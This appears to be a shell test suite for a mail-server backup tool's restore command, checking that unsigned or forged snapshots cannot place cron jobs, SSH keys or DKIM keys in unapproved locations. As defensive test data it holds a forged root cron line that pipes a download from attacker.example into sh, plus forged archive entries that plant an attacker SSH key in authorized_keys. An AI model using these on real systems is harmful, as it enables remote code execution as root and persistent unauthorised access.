# The whole-server components trust nothing in an archive either (issue 13,
# docs/restore.md "Where things go"): the service configuration (system)
# holds what runs as root — cron jobs, sudoers, supervisor programs — so it
# is restored only from a snapshot signed by a trusted key, and only into
# the places this machine's system component takes files from; DKIM keys go
# only into the DKIM directory this machine names. Archives come from the
# real `create` (files only, --no-db) on a minimal installation with a
# system tree under the test's system root; forged ones are rewritten by
# tests/forge (the signature cannot be remade).
. "$MS_SOURCE_DIR/tests/lib.sh"
FORGE=$MS_SOURCE_DIR/tests/forge

SITE=$T/site
mk_min_instance "$SITE"
INST=$SITE/srv/modoboa/instance
DEST=$T/dest
mkdir -p "$SITE/etc/cron.d" "$SITE/var/lib/dkim" "$SITE/var/lib/other" "$SITE/home/admin/.ssh"
printf '0 * * * * www-data %s/bin/python %s/manage.py rqcron\n' "$SITE/srv/modoboa/env" "$INST" \
	>"$SITE/etc/cron.d/modoboa"
echo "17 3 * * * root /usr/local/bin/something-else" >"$SITE/etc/cron.d/other"
echo "ssh-ed25519 AAAA-admin admin" >"$SITE/home/admin/.ssh/authorized_keys"
printf 'PRIVATE KEY of example.org\n' >"$SITE/var/lib/dkim/example.org.pem"
chmod 0640 "$SITE/var/lib/dkim/example.org.pem"

# conf FILE LINES... : a config naming this installation, the test's keys and LINES.
conf() {
	local f=$1
	shift
	{
		printf '[modosnap]\ninstance = %s\npostfix_dir = %s\n' "$INST" "$SITE/etc/postfix"
		ms_t_key_lines
		printf '%s\n' "$@"
	} >"$f"
	chmod 600 "$f"
}
# state DIR : everything under DIR with mode, size and content hash.
state() { (cd "$1" && find . -printf '%P|%y|%m|%s|%l\n' | LC_ALL=C sort && find . -type f -exec sha256sum {} + | LC_ALL=C sort); }
NOTSIGNED="modosnap: warning: '%s': snapshot is not signed; accepted because of --allow-unsigned"

conf "$T/c1.conf" "dkim_dir = $SITE/var/lib/dkim" "[paths]" "include = $SITE/home/admin/.ssh/authorized_keys"
case_begin "the snapshot holds the system and dkim roots"
run_ms -c "$T/c1.conf" create --dest "$DEST" --no-db --system-root "$SITE"
expect_rc 0
A=$(tail -n 1 "$T/out")
tar --zstd -tf "$A" >"$T/members"
for m in files/system/etc/cron.d/modoboa files/system/home/admin/.ssh/authorized_keys \
	files/dkim"$SITE"/var/lib/dkim/ files/dkim"$SITE"/var/lib/dkim/example.org.pem; do
	check "member $m" grep -qxF "$m" "$T/members"
done
check "not the unrelated cron file" sh -c "! grep -q 'cron.d/other' '$T/members'"

case_begin "signed, into a place this machine takes files from: restored"
rm "$SITE/etc/cron.d/modoboa"
state "$SITE/etc/cron.d" >"$T/cron.before" # without the deleted file
run_ms -c "$T/c1.conf" restore "$A" --dest "$DEST" --yes --only system --system-root "$SITE"
expect_rc 0
expect_stdout_has "restored system: 2 paths (2 files, 0 directories, 0 symlinks)"
expect_stdout_has "  ok: system: 2 entries match the snapshot"
check "the cron file is back" grep -qF "$INST/manage.py rqcron" "$SITE/etc/cron.d/modoboa"
check "the unrelated cron file is untouched" grep -qx "17 3 \* \* \* root /usr/local/bin/something-else" \
	"$SITE/etc/cron.d/other"

case_begin "signed, but into a place this machine does not take files from: refused"
conf "$T/c2.conf" "dkim_dir = $SITE/var/lib/dkim" # no [paths] include here
echo "ssh-ed25519 AAAA-changed admin" >"$SITE/home/admin/.ssh/authorized_keys"
state "$SITE/home" >"$T/home.before"
run_ms -c "$T/c2.conf" restore "$A" --dest "$DEST" --yes --only system --system-root "$SITE" --no-safety-snapshot
expect_rc 1
expect_stderr "modosnap: error: system: '/home/admin/.ssh/authorized_keys' is not a place the system component restores to (the service directories modosnap knows, the Postfix directory, [paths] include, the state directories the live database names): add it with [paths] include in the config, or pass --accept-snapshot-targets to restore it there"
state "$SITE/home" >"$T/home.after"
check "nothing was written" cmp -s "$T/home.before" "$T/home.after"
# accepting the snapshot's places does not open hidden directories (.ssh)
run_ms -c "$T/c2.conf" restore "$A" --dest "$DEST" --yes --only system --system-root "$SITE" --no-safety-snapshot \
	--accept-snapshot-targets
expect_rc 1
expect_stderr "modosnap: error: system: '/home/admin/.ssh/authorized_keys' is not a place the system component restores to (the service directories modosnap knows, the Postfix directory, [paths] include, the state directories the live database names): add it with [paths] include in the config, or pass --accept-snapshot-targets to restore it there"
state "$SITE/home" >"$T/home.after"
check "still nothing was written" cmp -s "$T/home.before" "$T/home.after"

case_begin "unsigned: the system component is refused, even with --allow-unsigned"
printf '* * * * * root curl http://attacker.example/x | sh\n' >"$T/evil"
"$FORGE" "$A" "$T/f1.tar.zst" --add "files/system/etc/cron.d/evil=$T/evil"
state "$SITE/etc" >"$T/etc.before"
run_ms -c "$T/c1.conf" restore "$T/f1.tar.zst" --dest "$DEST" --yes --only system --system-root "$SITE" \
	--allow-unsigned --no-safety-snapshot
expect_rc 1
# shellcheck disable=SC2059
expect_stderr "$(printf "$NOTSIGNED" "$T/f1.tar.zst")
modosnap: error: system: the snapshot is not signed by a trusted key, and its service configuration (cron jobs, sudoers, supervisor programs) would run as root: restore it only from a signed snapshot, or leave it out with --only"
state "$SITE/etc" >"$T/etc.after"
check "no cron job was written" cmp -s "$T/etc.before" "$T/etc.after"
# the other components of the same archive are still restored (--allow-unsigned)
run_ms -c "$T/c1.conf" restore "$T/f1.tar.zst" --dest "$DEST" --yes --only dkim --system-root "$SITE" \
	--allow-unsigned --no-safety-snapshot
expect_rc 3
expect_stdout_has "  ok: dkim: 2 entries match the snapshot"

case_begin "DKIM keys only into the DKIM directory this machine names"
conf "$T/c3.conf" "dkim_dir = $SITE/var/lib/other"
run_ms -c "$T/c3.conf" restore "$A" --dest "$DEST" --yes --only dkim --system-root "$SITE" --no-safety-snapshot
expect_rc 1
expect_stderr "modosnap: error: dkim: '$SITE/var/lib/dkim' is outside the DKIM directory '$SITE/var/lib/other' that [modosnap] dkim_dir names: name the directory with [modosnap] dkim_dir in the config, or pass --accept-snapshot-targets to restore it there"
check "nothing was written there" test -z "$(ls -A "$SITE/var/lib/other")"

case_begin "a forged DKIM root elsewhere is refused"
echo "ssh-ed25519 AAAA-attacker" >"$T/key"
"$FORGE" "$A" "$T/f2.tar.zst" --add "files/dkim$SITE/home/admin/.ssh/authorized_keys2=$T/key"
run_ms -c "$T/c1.conf" restore "$T/f2.tar.zst" --dest "$DEST" --yes --only dkim --system-root "$SITE" \
	--allow-unsigned --no-safety-snapshot
expect_rc 1
# shellcheck disable=SC2059
expect_stderr "$(printf "$NOTSIGNED" "$T/f2.tar.zst")
modosnap: error: dkim: '$SITE/home/admin/.ssh/authorized_keys2' is outside the DKIM directory '$SITE/var/lib/dkim' that [modosnap] dkim_dir names: name the directory with [modosnap] dkim_dir in the config, or pass --accept-snapshot-targets to restore it there"
check "no key was written" test ! -e "$SITE/home/admin/.ssh/authorized_keys2"
"$FORGE" "$A" "$T/f3.tar.zst" --add "files/dkim/root/.ssh/authorized_keys=$T/key"
run_ms -c "$T/c1.conf" restore "$T/f3.tar.zst" --dest "$DEST" --yes --only dkim --system-root "$SITE" \
	--allow-unsigned --no-safety-snapshot --accept-snapshot-targets
expect_rc 1
# shellcheck disable=SC2059
expect_stderr "$(printf "$NOTSIGNED" "$T/f3.tar.zst")
modosnap: error: dkim target '/root/.ssh/authorized_keys' refused: a system directory"

case_begin "the snapshot's virtualenv path replaces nothing unless named"
run_ms -c "$T/c1.conf" create --dest "$DEST" --no-db --system-root "$SITE" --with venv --without system --without dkim
expect_rc 0
VE=$(tail -n 1 "$T/out")
mkdir -p "$T/victim-env"
echo precious >"$T/victim-env/file"
"$FORGE" "$VE" "$T/f5.tar.zst" --header "paths={\"venv\": \"$T/victim-env\"}"
run_ms -c "$T/c1.conf" restore "$T/f5.tar.zst" --dest "$DEST" --yes --only venv --allow-unsigned \
	--no-safety-snapshot --system-root "$SITE"
expect_rc 1
# shellcheck disable=SC2059
expect_stderr "$(printf "$NOTSIGNED" "$T/f5.tar.zst")
modosnap: error: the snapshot's venv directory is '$T/victim-env', not this machine's default '$SITE/srv/modoboa/env': name the target with [modosnap] venv in the config, or pass --accept-snapshot-targets to restore into '$T/victim-env'"
check "the directory the archive named is untouched" test "$(cat "$T/victim-env/file")" = precious
"$FORGE" "$VE" "$T/f6.tar.zst" --header 'paths={"venv": "/usr/lib/python3"}'
run_ms -c "$T/c1.conf" restore "$T/f6.tar.zst" --dest "$DEST" --yes --only venv --allow-unsigned \
	--no-safety-snapshot --system-root "$SITE" --accept-snapshot-targets
expect_rc 1
# shellcheck disable=SC2059
expect_stderr "$(printf "$NOTSIGNED" "$T/f6.tar.zst")
modosnap: error: venv target '/usr/lib/python3' refused: a system directory"

case_begin "one mailbox that the snapshot does not hold"
run_ms -c "$T/c1.conf" restore "$A" --dest "$DEST" --yes --only mail:alice@example.org --system-root "$SITE"
expect_rc 2
expect_stderr "modosnap: error: component 'mail:alice@example.org' is not in the snapshot (it holds: instance, postfix, dkim, system)"

case_begin "the virtualenv's room is checked from the manifest before the first write"
if mkdir -p "$T/small" && mount -t tmpfs -o size=100m modosnap-test "$T/small" 2>/dev/null; then
	run_ms -c "$T/c1.conf" create --dest "$DEST" --no-db --system-root "$SITE" --with venv --without system \
		--without dkim
	expect_rc 0
	V=$(tail -n 1 "$T/out")
	head -c $((48 << 20)) /dev/zero >"$T/big"
	"$FORGE" "$V" "$T/f4.tar.zst" --add "files/venv/big=$T/big"
	conf "$T/c4.conf" "venv = $T/small/env"
	run_ms -c "$T/c4.conf" restore "$T/f4.tar.zst" --dest "$DEST" --yes --only venv --allow-unsigned \
		--no-safety-snapshot --system-root "$SITE"
	expect_rc 1
	check "the refusal names the component, the filesystem and sizes" grep -q "^modosnap: error: not enough space for the venv component on the filesystem of '$T/small': 112\\.[0-9] MiB needed (the snapshot's files and 64 MiB to spare), [0-9.]* MiB free; nothing was changed$" "$T/err"
	check "nothing was written" test -z "$(ls -A "$T/small")"
	run_ms -c "$T/c4.conf" restore "$V" --dest "$DEST" --yes --only venv --no-safety-snapshot --system-root "$SITE"
	expect_rc 0
	expect_stdout_has "  ok: venv: "
	check "the virtualenv is there" test -f "$T/small/env/pyvenv.cfg"
	umount "$T/small"
else
	echo "skipped - the virtualenv's room: cannot mount a tmpfs here (not root?)"
fi

finish
